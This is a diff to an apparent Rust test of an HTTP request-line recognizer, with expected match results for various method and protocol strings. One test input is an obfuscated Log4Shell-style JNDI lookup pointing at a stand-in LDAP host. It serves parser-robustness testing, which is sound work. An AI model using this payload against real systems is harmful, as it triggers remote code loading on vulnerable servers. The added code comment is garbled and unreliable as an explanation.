@@ -23,7 +23,10 @@ fn is_recognised_by_its_first_line() {
         (b"GETS / \r\n", Match::No),
         (b"OPTIONS sip:a@b SIP/2.0\r\n", Match::No),
         (b"DESCRIBE rtsp://a/b RTSP/1.0\r\n", Match::No),
-        (b"OPTIONS rtsp://a/b", Match::No),
+        // The end of the line tells: what is no target is a request's if it is one of HTTP.
+        (b"OPTIONS rtsp://a/b", Match::Maybe),
+        (b"OPTIONS rtsp://a/b RTSP/1.0\r\n", Match::No),
+        (b"GET h0tp://a/b HTTP/1.1\r\n", Match::Yes),
         (b"GET /a HTTP/2.0\r\n", Match::No),
         (b"FROBNICATE /a HTTP/1.1\r\n", Match::Yes),
         (b"${${::-j}ndi:ldap://a.example/x} /test HTTP/1.1\r\n", Match::Yes),
